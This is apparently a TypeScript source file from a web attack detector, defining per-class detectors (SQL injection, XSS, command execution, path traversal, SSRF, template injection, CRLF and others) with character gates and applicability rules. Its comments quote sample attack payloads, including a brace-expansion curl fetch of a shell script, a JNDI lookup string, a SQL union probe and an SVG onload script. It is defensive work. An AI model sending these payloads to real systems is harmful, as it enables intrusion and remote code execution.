import type { AttackClass } from '../../../records/types';
import { FIXED_GRAMMAR_HEADERS } from '../../../http/standard-headers';
import { hasPercentEscape } from '../decode/percent';
import { jsonStrings } from '../decode/json-strings';
import type { PointKind, RequestValue } from '../points/types';
import {
  hasLineBreak,
  isBreakBetweenProse,
  isBreakProbe,
  isCrlf,
  isEscapedBreakInText,
  isHeaderInMarkup,
  isHeaderLineInHeader,
  isRequestLine,
  isSplitInText,
  UNICODE_BREAKS,
} from './crlf';
import { isLdapi, isNulTerminatedFilter } from './ldapi';
import { isMailInjection, isPop3CommandLine } from './mail';
import { isNosqli, isNosqlKey, isOrmLookupKey } from './nosqli';
import {
  hasNulByte,
  isAppSecretsFile,
  isRemoteCode,
  isRemoteInclude,
  isRemoteIncludeInPath,
  mayTraverse,
  traverses,
} from './ptrav';
import { isCodeInjection, isDotNetTypeHint, isJavaTypeHint, isScriptFileName, isStateFormatterObject } from './code-injection';
import { isHeaderInjection, isPlainCommandLine, isProgramAlone, isRce, PROGRAM_ALONE_LENGTH, withoutCodeBlocks } from './rce';
import { CLIENT_ADDRESS_HEADERS, isCommandInHeader, isNoClientInHeader, isRangeOverflow } from './header-grammar';
import { isMixedSlashRedirect, isOpenRedirect, isPathRedirect, isPrefixElsewhere, isReturnTarget, PREFIX_HEADERS } from './redir';
import {
  isClassLoaderName,
  isCommandInSink,
  isExploitExpression,
  isLoaderVariableName,
  isProgramInExecutableSink,
  isServerFileInSink,
} from './exploits';
import { isJndiLookup } from './lookups';
import { scannerClass, scannerReadsWords } from './scanner';
import { isPlainProse, isQuoteProbe, isSqlWordAlone } from './sqli';
import { isSsi } from './ssi';
import {
  isDelimiterDecodedBeforeAt,
  isEscapedSelfName,
  isMetadataPath,
  isNameAsClientAddress,
  isNoHost,
  isNumericAddress,
  isServerInPath,
  isSsrf,
  isUrlInPath,
  SELF_NAME_MAX_LENGTH,
} from './ssrf';
import { isBracketedProduct, isRenderOptionsName, isSsti } from './ssti';
import { memoized } from '../../../memo';
import { isScriptSinkName, isUtf7Markup, isXss, isXssInMarkup } from './xss';
import { isXxe } from './xxe';
import { isXpathi, isXpathPath } from './xpathi';
import { isXmlInjection } from './xml-injection';
import { isCsvInjection } from './csv-injection';
import { isLatexInjection } from './latex-injection';
import { isFormatString, isOverflow, OVERFLOW_MIN_RUN } from './overflow';
import type { RequestContext } from './request-context';
import { TEXT_HINTS } from './text-hints';
import { committedModels, type DetectionModels } from '../models';

/**
 * The context detectors get for header values. AttackDetector remembers a header's hits by name and
 * value alone (docs/detection.md, "header cache"), which is right only while no detector reads the
 * request context for a header: this context throws when read, so breaking that rule is an
 * internal error (counted, the request skipped) and fails test/unit/attacks/header-cache.test.ts.
 * Only the learned models may be read: they belong to the detector (and its cache), not the request.
 */
export function headerContext(models: DetectionModels): RequestContext {
  return Object.freeze({
    get hosts(): string[] {
      throw new HeaderContextRead('hosts');
    },
    get toolAgent(): boolean {
      throw new HeaderContextRead('toolAgent');
    },
    get path(): string {
      throw new HeaderContextRead('path');
    },
    get target(): string {
      throw new HeaderContextRead('target');
    },
    models,
  });
}

/** The header context of the committed models (what detectors without other models get). */
export const HEADER_CONTEXT: RequestContext = headerContext(committedModels());

export class HeaderContextRead extends Error {
  constructor(field: string) {
    super(`a detector read the request context (${field}) for a header value, whose hits are cached by name and value only`);
  }
}

export interface Detector {
  cls: AttackClass;
  /**
   * Characters the attack cannot do without, as one character class (a text passes when one of its
   * characters matches): every form must pass it before `test` runs. See GateMask.
   */
  gate: RegExp | null;
  /**
   * A narrower gate where `at` holds (`at` reads the point's kind and, for headers, its name only:
   * it is asked once per kind and header name, with an empty value). Exact like `gate`: where `at`
   * holds, a form without one of its characters never matches. See GateMask.
   */
  gateWhere?: { gate: RegExp; at(v: RequestValue): boolean };
  /**
   * The shortest and longest form the detector can match (exact bounds of its patterns): a form
   * outside them is not tested, and not counted, since it could not have matched. Unlike maxLength,
   * which skips forms the detector could match and counts them.
   */
  minLength?: number;
  longestMatch?: number;
  /**
   * The shortest text of ASCII digits alone (an id, a count, a session number) the detector can
   * match: NO_NUMBER when none can (its patterns need a letter or a mark), absent when not declared
   * (then any length its other bounds allow). Exact like minLength: it is what lets a value of
   * digits alone that no applicable detector can match be answered without a test or the value
   * memory (detector.ts quietDigitsBelow; pinned by test/unit/attacks/quiet-numbers.test.ts).
   */
  shortestNumber?: number;
  /** Whether the detector reads values found at this kind of point. */
  applies(v: RequestValue): boolean;
  /**
   * Longest form the detector reads (docs/detection.md, "Limits"): a longer one is skipped for
   * this detector and counted in `caps.value_length`. No bound when absent.
   */
  maxLength?: number;
  /**
   * Tests one decoded form of the value; `final` is true for the most decoded form. For header
   * values `ctx` is HEADER_CONTEXT: the result must depend on the header's name and value only.
   * `hints`, when given, is GateMask.of of the form: its TEXT_HINTS tell what characters it has.
   */
  test(text: string, v: RequestValue, ctx: RequestContext, final: boolean, hints?: number): boolean;
}

const kinds = (...k: PointKind[]): Set<PointKind> => new Set(k);
/** Values typed by a person or a program: everything but the whole path and XML-level items. */
const VALUES = kinds(
  'path_segment',
  'query',
  'form',
  'json',
  'xml',
  'multipart',
  'filename',
  'header',
  'cookie',
  'referer',
  'body',
  'key',
);
/** Shell metacharacters, quotes (`wh''oami`), `^` (cmd.exe's escape, `who^ami`) and `~` (bash's `~+`): rce's gate. */
const SHELL_OR_QUOTE = /[;|&$`\n\r(){}<>!%#/\\'"^~]/;
/** Where a line break can reach a response header: JSON, form and multipart text is multi-line by nature. */
const STRICT_CRLF = kinds('path', 'path_segment', 'query', 'header', 'cookie', 'key', 'filename');
/** Text fields, where a line break is ordinary and only a split in its own shape is crlf. */
const TEXT_CRLF = kinds('form', 'json', 'xml', 'multipart', 'referer', 'body');
/** Fields of a structured body, whose own breaks their parser hands over: an escaped one is URL text (crlf.ts isEscapedBreakInText). */
const FIELD_CRLF = kinds('form', 'json', 'xml', 'multipart');
/** A line break, or a backslash for breaks written as escapes (`\\r\\nSet-Cookie:`): one gate for both crlf readers. */
const CRLF_GATE = new RegExp(`[\\r\\n\\\\${UNICODE_BREAKS}]`);
/** Parameters a back end may write into a request of its own: not headers, whose values proxies and tools fill. */
const REQUEST_LINE_POINTS = kinds('query', 'path_segment', 'cookie', 'form', 'json', 'multipart');
/** Where a NUL byte reaches a file name: parameters, path segments, cookies, structured fields. */
const NUL_POINTS = kinds('path', 'path_segment', 'query', 'form', 'json', 'xml', 'multipart', 'cookie', 'referer', 'filename');
/** Where a reconnaissance program alone is a value given to a shell: parameters, cookies and headers, not routes or names. */
const PROGRAM_ALONE_POINTS = kinds('query', 'form', 'json', 'xml', 'multipart', 'cookie', 'header');
/** Where a parameter named for a command is given one. */
const COMMAND_POINTS = kinds('query', 'form', 'json', 'multipart', 'cookie', 'referer');
/** Parameters a payload is placed in whatever their name (redir.ts isMixedSlashRedirect). */
const MIXED_SLASH_POINTS = kinds('query', 'form', 'json', 'multipart', 'xml');
const URL_PARAMS = kinds('query', 'form', 'json', 'xml', 'multipart', 'cookie', 'referer', 'body', 'path_segment', 'filename');
/** Headers whose values are URLs or hosts of the client's own making: never SSRF/redirect evidence. */
const CLIENT_URL_HEADERS = new Set([
  'referer',
  'origin',
  'host',
  'x-forwarded-host',
  'x-forwarded-for',
  'x-real-ip',
  'forwarded',
  'via',
]);
/** Standard headers with a fixed grammar that browsers fill in: tokenised detectors skip them. */
const FIXED_HEADERS = new Set([
  ...FIXED_GRAMMAR_HEADERS,
  'date',
  'if-range',
  'proxy-authorization',
  'sec-fetch-site',
  'sec-fetch-mode',
  'sec-fetch-dest',
  'sec-fetch-user',
  'sec-ch-ua',
  'sec-ch-ua-mobile',
  'sec-ch-ua-platform',
]);

// The prefilter refuses most values for less than the memory's lookup would cost.
const traversal = {
  path: memoized((t) => traverses(t, 'path')),
  filename: memoized((t) => traverses(t, 'filename')),
  other: memoized((t) => traverses(t, 'query')),
};
/** Whether a value at this kind of point traverses (the whole path and file names are read strictest). */
function traversesAt(t: string, kind: PointKind): boolean {
  if (!mayTraverse(t)) return false;
  return kind === 'path' ? traversal.path(t) : kind === 'filename' ? traversal.filename(t) : traversal.other(t);
}
/** Where an application takes a parameter as something to include: not headers, names or the path. */
const INCLUDE_POINTS = kinds('query', 'form', 'json', 'xml', 'multipart', 'cookie', 'referer', 'body');

/** `http://localhost:3000/callback`, `http://127.0.0.1:8400/cb`, `http://[::1]:5000/`: a loopback redirect with its port. */
const LOOPBACK_RETURN = /^https?:\/\/(?:localhost|127\.0\.0\.1|\[::1\]):\d{2,5}(?:[/?#][^@\\\s]*)?$/i;
const sqli = (t: string, ctx: RequestContext): boolean => !isPlainProse(t) && ctx.models.sqli(t);
/**
 * A path segment written with `+` for its spaces (`24'union+all+select+1,2,3+from+aa`): the
 * query-string convention, which applications that route a segment into a query decode too. Read
 * again with spaces when the segment has a quote and no space (`c++`, `a+b` stay names).
 */
const sqliWithPlusSpaces = (t: string, ctx: RequestContext): boolean =>
  t.includes('+') && /['"`]/.test(t) && !/\s/.test(t) && sqli(t.replace(/\+/g, ' '), ctx);

const isRceAfterBreak = (s: string): boolean => (s.includes('\n') || s.includes('\r')) && isRce(s);

/** Plain-name segments taken off a path tail's end by readBeforeRouteSuffix. */
const MAX_ROUTE_SUFFIX_SEGMENTS = 3;

/**
 * The path's tail read without a route's fixed suffix (`/items/{cmd}/view` hands `|/usr/bin/id`
 * to the application; the tail is `|/usr/bin/id/view`, whose last word names no program;
 * `0' / current_date XOR '1/view` ends in no SQL): its last plain-name segments taken off one by
 * one, at most MAX_ROUTE_SUFFIX_SEGMENTS, each shorter text read by `read`.
 */
function readBeforeRouteSuffix(t: string, read: (text: string) => boolean): boolean {
  let end = t.length;
  for (let cuts = 0; cuts < MAX_ROUTE_SUFFIX_SEGMENTS; cuts++) {
    const slash = t.lastIndexOf('/', end - 1);
    if (slash <= 0 || !/^[\w.~-]+$/.test(t.slice(slash + 1, end))) return false;
    end = slash;
    if (read(t.slice(0, end))) return true;
  }
  return false;
}

/** `;{`, `|{`, `&{`: a brace group opened where a command may start. */
const hasBraceGroupAfterSeparator = (t: string): boolean => t.includes(';{') || t.includes('|{') || t.includes('&{');

/** Headers that carry the name of an uploaded file (upload APIs without multipart). */
const FILE_NAME_HEADERS = new Set([
  'x-file-name',
  'x-filename',
  'x_filename',
  'x.filename',
  'x_file_name',
  'x-file',
  'content-dir',
]);

/** A query name sent without `=` (`?a=1&%0d%0aname`): its own point, the whole pair (points/params.ts), read as a name. */
const isBareName = (v: RequestValue): boolean => v.kind === 'query' && v.point.length === 2 && v.point[1] === v.value;
const valueAt = (v: RequestValue): boolean => VALUES.has(v.kind) && !(v.kind === 'header' && FIXED_HEADERS.has(v.name));
/**
 * A value, or the path's tail (points/target.ts pathTailStart: the path from its first segment
 * that is no plain name, as a server hands it to a script or a catch-all route): read by the
 * readers of SQL, shell, server code and markup, whose text spans slashes.
 */
const valueOrTail = (v: RequestValue): boolean => valueAt(v) || v.kind === 'path_tail';

/** Detector.shortestNumber of a detector that matches no text of digits alone. */
export const NO_NUMBER = Number.POSITIVE_INFINITY;

export const DETECTORS: Detector[] = [
  // A `%` of an escape that is decoded further on is not SQL's modulo operator.
  {
    cls: 'sqli',
    gate: /[^\w]/,
    applies: valueOrTail,
    // Prose is refused for less than the memory's lookup would cost (and is mostly all different).
    test: (t, v, ctx, final) =>
      (final || !hasPercentEscape(t)) &&
      ((jsonStrings(t)?.some((s) => sqli(s, ctx)) ?? sqli(t, ctx)) ||
        (v.kind === 'path_segment' && sqliWithPlusSpaces(t, ctx)) ||
        (v.kind === 'path_tail' && readBeforeRouteSuffix(t, (s) => sqli(s, ctx)))),
  },
  // A lone quote, or a number with a quote glued to it in an identifier's parameter (`account_id=2'`):
  // a scanner's error probe (sqli.ts isQuoteProbe). The gate of rce, which holds `'`, shared: the
  // gate bits are few (gates.ts MAX_GATE_BITS).
  {
    cls: 'sqli',
    gate: SHELL_OR_QUOTE,
    applies: valueAt,
    test: (t, v) => isQuoteProbe(t, v.name),
  },
  // A database's catalogue or command procedure named alone (`xp_cmdshell`, `msdb`), or SQL's
  // operator words alone (`regexp`, `xor`), a hexadecimal literal of SQL text: word-only values,
  // which pass no gate; anchored patterns (sqli.ts isSqlWordAlone).
  // Names, operator words and `0x` literals: no text of digits alone.
  {
    cls: 'sqli',
    gate: null,
    minLength: 3,
    longestMatch: 520,
    shortestNumber: NO_NUMBER,
    applies: valueAt,
    test: (t) => isSqlWordAlone(t),
  },
  {
    cls: 'xss',
    // `[` for JSFuck (`+!![]`), which has none of the others; `*` for a member reached across a
    // comment (`document/*x*/.cookie`).
    gate: /[<>\"'`(:=[*]/,
    // The whole path too: `/<svg/onload=alert(1)>` has its markup split over segments.
    applies: (v) => valueOrTail(v) || v.kind === 'markup' || v.kind === 'path',
    // The learned score (scoring.ts) only for values a person or program typed, not the whole path or its tail.
    // The score does not read a Markdown post's closed code blocks either (isXss's script reading).
    test: (t, v, ctx) =>
      v.kind === 'markup'
        ? isXssInMarkup(t)
        : isXss(t) ||
          (v.kind !== 'path' && v.kind !== 'path_tail' && ctx.models.xssScore(t.includes('```') ? withoutCodeBlocks(t) : t)),
  },
  // Quotes too: shell with none of the other characters (`wh''oami`, `sh -c "id"`); `^` for
  // cmd.exe's escape (`who^ami`).
  // A whole query string or form body (kind `urlencoded`, params.ts) is read for shell only.
  {
    cls: 'rce',
    gate: SHELL_OR_QUOTE,
    applies: (v) => valueOrTail(v) || v.kind === 'urlencoded',
    // A string of a JSON document sent as one parameter that holds a line break, which JSON's
    // escapes hide from the reading of the raw text (`params=[{"PASSWORD":"x\r\nnslookup host"}]`),
    // is read on its own. Only those: a package.json sent as text has `"start": "node index.js"`.
    test: (t, v) =>
      isRce(t) || (jsonStrings(t)?.some(isRceAfterBreak) ?? false) || (v.kind === 'path_tail' && readBeforeRouteSuffix(t, isRce)),
  },
  // Code of the server languages (code-injection.ts): PHP, JVM, Node.js, Perl/Ruby, serialized objects.
  // No gate: `java.lang.Runtime`, `rO0AB...` and `__proto__` have none of the shell's characters.
  // The scan's NOT_BASE64 hint stands in for the first part of its own pass over the characters,
  // its NOT_WORD_OR_SPACE hint for its search of words and spaces.
  {
    cls: 'rce',
    gate: null,
    minLength: 5,
    // Digits alone are neither mixed-case base64 nor a function or gadget name.
    shortestNumber: NO_NUMBER,
    applies: valueOrTail,
    test: (t, _v, _ctx, _final, hints) =>
      hints === undefined
        ? isCodeInjection(t)
        : isCodeInjection(t, (hints & TEXT_HINTS.NOT_BASE64) !== 0, (hints & TEXT_HINTS.NOT_WORD_OR_SPACE) === 0),
  },
  {
    cls: 'rce',
    gate: /[.]/,
    applies: (v) => v.kind === 'json',
    test: (t, v) => isJavaTypeHint(t, v.name) || isDotNetTypeHint(t, v.name),
  },
  // An ASP.NET state field (`__VIEWSTATE`) whose first token is a BinaryFormatter object (`/wEy`).
  { cls: 'rce', gate: /[/]/, applies: valueAt, test: (t) => isStateFormatterObject(t) },
  // An uploaded file the server would run (`x.php`, `x.php.jpg`, `sess_<id>`).
  {
    cls: 'rce',
    gate: /[._]/,
    minLength: 4,
    applies: (v) => v.kind === 'filename' || (v.kind === 'header' && FILE_NAME_HEADERS.has(v.name)),
    test: (t) => (t.includes('.') || t.includes('_')) && isScriptFileName(t),
  },
  // A reconnaissance program alone as the whole value as sent (`whoami`, `ipconfig`; not `wh%00oami`,
  // a name cut by a NUL): no character to gate on, the length first; parameters and headers only
  // (a path segment `/api/whoami` is a route).
  {
    cls: 'rce',
    gate: null,
    shortestNumber: NO_NUMBER,
    applies: (v) => PROGRAM_ALONE_POINTS.has(v.kind) && valueAt(v),
    test: (t, v) =>
      t.length >= PROGRAM_ALONE_LENGTH.min && t.length <= PROGRAM_ALONE_LENGTH.max && t === v.value && isProgramAlone(t),
  },
  // A command line without shell characters (`uname -n -s`): gated on a blank after its first
  // word, a space or a tab as the shell reads one (branch i18-rce8). The gate bits are all taken,
  // so the one of any non-word character stands in: a value without a blank costs one search.
  { cls: 'rce', gate: /[^\w]/, applies: valueAt, test: (t) => isPlainCommandLine(t) },
  // A command line in a free header, where a product list or a URL belongs (header-grammar.ts).
  {
    cls: 'rce',
    gate: / /,
    applies: (v) => v.kind === 'header' && !FIXED_HEADERS.has(v.name),
    test: (t, v) => isCommandInHeader(t, v.name),
  },
  // Header grammars (header-grammar.ts): a Range position beyond 2^53, a client that is no client.
  { cls: 'overflow', gate: /[-]/, applies: (v) => v.kind === 'header' && v.name === 'range', test: (t) => isRangeOverflow(t) },
  // Ungated: `localhost` has no punctuation; only the client-address headers are read.
  {
    cls: 'scanner',
    gate: null,
    applies: (v) => v.kind === 'header' && CLIENT_ADDRESS_HEADERS.has(v.name),
    test: (t, v) => isNoClientInHeader(v.name, t),
  },
  // What is injected into any header reaches the standard ones too (`Accept`, `Authorization`,
  // `Range`...), which are not read as free text: shellshock and Log4j lookups only.
  {
    cls: 'rce',
    gate: /[$(]/,
    applies: (v) => v.kind === 'header' && FIXED_HEADERS.has(v.name),
    test: (t) => isHeaderInjection(t),
  },
  {
    cls: 'ptrav',
    gate: /[./\\:%\0]/,
    applies: (v) => (valueAt(v) || v.kind === 'path') && !(v.kind === 'header' && CLIENT_URL_HEADERS.has(v.name)),
    test: (t, v, ctx) =>
      traversesAt(t, v.kind) ||
      (v.kind === 'path' && t.includes('://') && isRemoteIncludeInPath(ctx.target)) ||
      (NUL_POINTS.has(v.kind) && hasNulByte(v.value)) ||
      (INCLUDE_POINTS.has(v.kind) &&
        ((t.includes('?') && t.includes('://') && isRemoteInclude(t)) ||
          (t.includes('://') && !isReturnTarget(v.name) && isRemoteCode(t, v.name, v.point)) ||
          (t.includes('.') && !isReturnTarget(v.name) && isAppSecretsFile(t)))),
  },
  {
    cls: 'ssrf',
    // URLs are short; a longer value is a document, not an address to fetch.
    maxLength: 4096,
    // `/` of a URL, or the `.`/`:` of a bare address (`0x7f.1`, `::1`).
    gate: /[/.:]/,
    // The whole path only for what names another server there: metadata paths, UNC, `unix:...|http:`, a URL after a route.
    // The Host header only for what is no host, client-address headers only for a DNS name (ssrf.ts).
    applies: (v) =>
      URL_PARAMS.has(v.kind) ||
      v.kind === 'path' ||
      v.kind === 'target' ||
      (v.kind === 'header' &&
        ((!CLIENT_URL_HEADERS.has(v.name) && !FIXED_HEADERS.has(v.name)) ||
          v.name === 'host' ||
          CLIENT_ADDRESS_HEADERS.has(v.name))),
    // A login flow's return target on this computer is where a native app listens (RFC 8252 7.3):
    // the browser goes there, the server fetches nothing.
    // An absolute-form target (points/target.ts) is a URL the proxy fetches, read as a URL value is.
    test: (t, v, ctx) =>
      v.kind === 'path'
        ? isMetadataPath(t) || isServerInPath(t) || isUrlInPath(t)
        : v.kind === 'header' && (v.name === 'host' || CLIENT_ADDRESS_HEADERS.has(v.name))
          ? v.name === 'host'
            ? isNoHost(t)
            : isNameAsClientAddress(v.name, t) || (!CLIENT_URL_HEADERS.has(v.name) && isSsrf(t))
          : (isSsrf(t) && !(v.kind !== 'header' && LOOPBACK_RETURN.test(t) && isReturnTarget(v.name))) ||
            // A delimiter the query wrote escaped before an `@`, made a slash by its one decoding (ssrf.ts).
            (v.kind === 'query' && isDelimiterDecodedBeforeAt(t, ctx)),
  },
  // An address written as one number (`2130706433`, `0x7f000001`, `017700000001`) has no `/.:`,
  // nor has the server's name with escaped letters (`%6c%6f%63%61%6c%68%6f%73%74`, ssrf.ts isEscapedSelfName).
  // Ungated (a digit gate would end GateMask's fast path for word-only text): bounded by length.
  {
    cls: 'ssrf',
    gate: null,
    minLength: 8,
    longestMatch: SELF_NAME_MAX_LENGTH,
    applies: (v) => URL_PARAMS.has(v.kind),
    test: (t) => isNumericAddress(t) || isEscapedSelfName(t),
  },
  // `[` for the bracketed expressions (`[[7*7]]`, `[=7*7]`, ssti.ts isBracketedProduct), read behind it only.
  {
    cls: 'ssti',
    gate: /[{<([]/,
    applies: valueAt,
    test: (t) => (/[{<(]/.test(t) && isSsti(t)) || (t.includes('[') && isBracketedProduct(t)),
  },
  // `settings[view options][...]`: the engine's render options written by the query (ssti.ts); the space is its gate.
  { cls: 'ssti', gate: / /, applies: (v) => v.kind === 'key', test: (t) => isRenderOptionsName(t) },
  // A filter closed then cut by a NUL is read on the value as sent (decoding drops NULs) and on
  // each form, where a NUL written as text (`\x00` in a cookie) survives (ldapi.ts isNulTerminatedFilter).
  {
    cls: 'ldapi',
    gate: /[():]/,
    applies: valueAt,
    test: (t, v) => isLdapi(t) || isNulTerminatedFilter(t) || isNulTerminatedFilter(v.value),
  },
  {
    cls: 'nosqli',
    gate: /[$(;=]/,
    applies: valueAt,
    test: (t, v) => (v.kind === 'key' ? isNosqlKey(t) : isNosqli(t)),
  },
  // An ORM lookup in a name (`password__startswith`, nosqli.ts): ungated, a name has none of the
  // operators' characters; read only in names, which hold no text.
  {
    cls: 'nosqli',
    gate: null,
    shortestNumber: NO_NUMBER,
    applies: (v) => v.kind === 'key',
    test: (t) => isOrmLookupKey(t),
  },
  { cls: 'xxe', gate: /</, applies: (v) => valueAt(v) || v.kind === 'doctype' || v.kind === 'markup', test: (t) => isXxe(t) },
  {
    cls: 'crlf',
    gate: CRLF_GATE,
    applies: (v) => STRICT_CRLF.has(v.kind),
    // In the path and in names, also any break sent as such or escaped once (`%0a`); deeper layers
    // need what follows the break to be a header.
    test: (t, v) =>
      isCrlf(t) ||
      isBreakProbe(t) ||
      ((v.kind === 'header' || v.kind === 'cookie') && isHeaderLineInHeader(t)) ||
      ((v.kind === 'path' || v.kind === 'path_segment' || v.kind === 'key' || isBareName(v)) &&
        hasLineBreak(t) &&
        /%0[ad]|[\r\n]/i.test(v.value) &&
        !isBreakBetweenProse(t)),
  },
  // A header the document sets (`<meta http-equiv="Refresh" content="0; url=...">`, crlf.ts): its `<` is the gate.
  { cls: 'crlf', gate: /</, applies: valueAt, test: (t) => isHeaderInMarkup(t) },
  // A whole HTTP request line as a parameter (`GET http://host/ HTTP/1.1`): a request for a back end
  // that writes the value into its own request (crlf.ts); its `/` is the gate.
  { cls: 'crlf', gate: /[/]/, applies: (v) => REQUEST_LINE_POINTS.has(v.kind), test: (t) => isRequestLine(t) },
  // Text fields are multi-line by nature: only a split in its own shape (crlf.ts isSplitInText).
  {
    cls: 'crlf',
    gate: CRLF_GATE,
    applies: (v) => TEXT_CRLF.has(v.kind),
    test: (t, v) => isSplitInText(t) || (FIELD_CRLF.has(v.kind) && isEscapedBreakInText(t, v.value)),
  },
  {
    cls: 'redir',
    gate: /[/\\:]/,
    applies: (v) => v.kind === 'query' || v.kind === 'form' || v.kind === 'json' || v.kind === 'multipart',
    test: (t, v, ctx) => isOpenRedirect(t, v.name, ctx.hosts, ctx.path),
  },
  // A run of slashes mixed with a backslash, a tab or a break, then a host, in any parameter
  // whatever its name (redir.ts isMixedSlashRedirect): redir's gate, shared.
  {
    cls: 'redir',
    gate: /[/\\:]/,
    applies: (v) => MIXED_SLASH_POINTS.has(v.kind),
    test: (t) => isMixedSlashRedirect(t),
  },
  // A proxy's path prefix given a URL, a path that opens with another host (redir.ts): redir's gate, shared.
  {
    cls: 'redir',
    gate: /[/\\:]/,
    applies: (v) => (v.kind === 'header' && PREFIX_HEADERS.has(v.name)) || v.kind === 'path',
    test: (t, v) => (v.kind === 'path' ? isPathRedirect(t) : isPrefixElsewhere(t)),
  },
  // POP3 in any case only where a line break is itself injected (mail.ts isPop3CommandLine).
  {
    cls: 'mail_injection',
    gate: /[\r\n]/,
    applies: valueAt,
    test: (t, v) => isMailInjection(t) || (STRICT_CRLF.has(v.kind) && isPop3CommandLine(t)),
  },
  // `$` for ESI variables (`$(HTTP_COOKIE)`).
  { cls: 'ssi', gate: /[<$]/, applies: (v) => valueAt(v) || v.kind === 'xml', test: (t) => isSsi(t) },
  // Known-exploit forms (exploits.ts): OGNL and options that run a program, in every value and
  // header (Struts S2-045 sends OGNL as Content-Type); class-loader parameter names; a command in
  // a parameter named for one (`cmd=id`: letters only, so ungated; a letter gate would end
  // GateMask's fast path for words), not in a GraphQL argument, which the API's schema names.
  // `,` for the compilers' `-wrapper sh,-c,id`.
  { cls: 'rce', gate: /[{#@=,]/, applies: (v) => valueAt(v) || v.kind === 'header', test: (t) => isExploitExpression(t) },
  { cls: 'rce', gate: /[.]/, applies: (v) => v.kind === 'key', test: (t) => isClassLoaderName(t) },
  // UTF-7 markup (`+ADw-script+AD4-`), which has none of the markup characters of xss's gate (its `-` is in csv's gate, shared).
  { cls: 'xss', gate: /[=+\-@]/, applies: valueAt, test: (t) => isUtf7Markup(t) },
  // A parameter named `document.cookie` or `window.location`, or a value that is only such a
  // reference (xss.ts isScriptSinkName): no markup character, so xss's gate does not pass it. Not a
  // path segment, which names a page (a manual's `/javascript-manual/document.cookie`, a CRS benign test).
  { cls: 'xss', gate: /[.]/, applies: (v) => valueAt(v) && v.kind !== 'path_segment', test: (t) => isScriptSinkName(t) },
  // Ungated: a letter gate would end GateMask's fast path for word-only text (gates.ts); the name's first character is tested first.
  {
    cls: 'rce',
    gate: null,
    minLength: 5,
    longestMatch: 32,
    shortestNumber: NO_NUMBER,
    applies: (v) => v.kind === 'key',
    test: (t) => isLoaderVariableName(t),
  },
  // A brace group run after a separator spans segments when its URL has slashes
  // (`/x;{curl,http://host/a.sh};`, bash's brace expansion, SonicWall CVE-2021-20038): the whole
  // path is read for shell when it has one. rce's gate, shared (the gate bits are few).
  {
    cls: 'rce',
    gate: SHELL_OR_QUOTE,
    applies: (v) => v.kind === 'path',
    test: (t) => hasBraceGroupAfterSeparator(t) && isRce(t),
  },
  // A lookup spans segments when its URL has slashes (`/api/x/${jndi:ldap://host/a}`): read on the whole path.
  { cls: 'rce', gate: /[$]/, applies: (v) => v.kind === 'path', test: (t) => t.includes('${') && isJndiLookup(t) },
  {
    cls: 'rce',
    gate: null,
    // `id`, `ls`; isCommandInSink reads less than 500 characters. A command line opens with its name.
    minLength: 2,
    longestMatch: 499,
    shortestNumber: NO_NUMBER,
    applies: (v) => COMMAND_POINTS.has(v.kind),
    test: (t, v) => v.point[0] !== 'graphql' && (isCommandInSink(t, v.name) || isProgramInExecutableSink(t, v.name)),
  },
  // A server script or configuration file asked of a parameter named for a file (`file=config.php`).
  {
    cls: 'ptrav',
    gate: /[.]/,
    applies: (v) => COMMAND_POINTS.has(v.kind),
    test: (t, v) => v.point[0] !== 'graphql' && isServerFileInSink(t, v.name),
  },
  // The classes of branch i18-classes (docs/detection.md), each read from its own grammar.
  { cls: 'xpathi', gate: /[(:|]/, applies: valueAt, test: (t) => isXpathi(t) },
  // Whole location paths and break-outs that need no `(`, `:` or `|` (`' or //user[name='a'] or '`):
  // their `/` is the gate, shared with the request line's (xpathi.ts isXpathPath).
  { cls: 'xpathi', gate: /[/]/, applies: valueAt, test: (t) => isXpathPath(t) },
  { cls: 'xml_injection', gate: /[<>(]/, applies: (v) => valueAt(v) || v.kind === 'markup', test: (t) => isXmlInjection(t) },
  { cls: 'csv_injection', gate: /[=+\-@]/, applies: valueAt, test: (t) => isCsvInjection(t) },
  { cls: 'latex_injection', gate: /[\\]/, applies: valueAt, test: (t) => isLatexInjection(t) },
  // No gate: a run of one character has no particular one; the length check comes first. A run
  // counts in parameters, not in a whole raw body (a document or a file, not a field), where only
  // a format string counts, which needs its `%`.
  {
    cls: 'overflow',
    gate: null,
    gateWhere: { gate: /%/, at: (v) => v.kind === 'body' },
    minLength: 2,
    // A format string has its `%`: digits alone match only as a run of one digit.
    shortestNumber: OVERFLOW_MIN_RUN,
    applies: valueAt,
    test: (t, v) => (v.kind === 'body' ? isFormatString(t) : isOverflow(t)),
  },
  {
    cls: 'scanner',
    gate: null,
    // Tool names, probe paths, debugger triggers (keys), Struts' `debug=command` (query) and the
    // headers of scannerReadsWords are words; elsewhere only an OAST domain or a JWT counts, which
    // has its dot.
    gateWhere: { gate: /[.]/, at: (v) => !scannerReadsWords(v) },
    // Tool, probe and debugger names, OAST domains, options and Struts' words: none is digits alone.
    shortestNumber: NO_NUMBER,
    applies: (v) => v.kind !== 'markup' && v.kind !== 'doctype',
    test: (t, v, ctx) => scannerClass(t, v, ctx) !== '',
  },
];
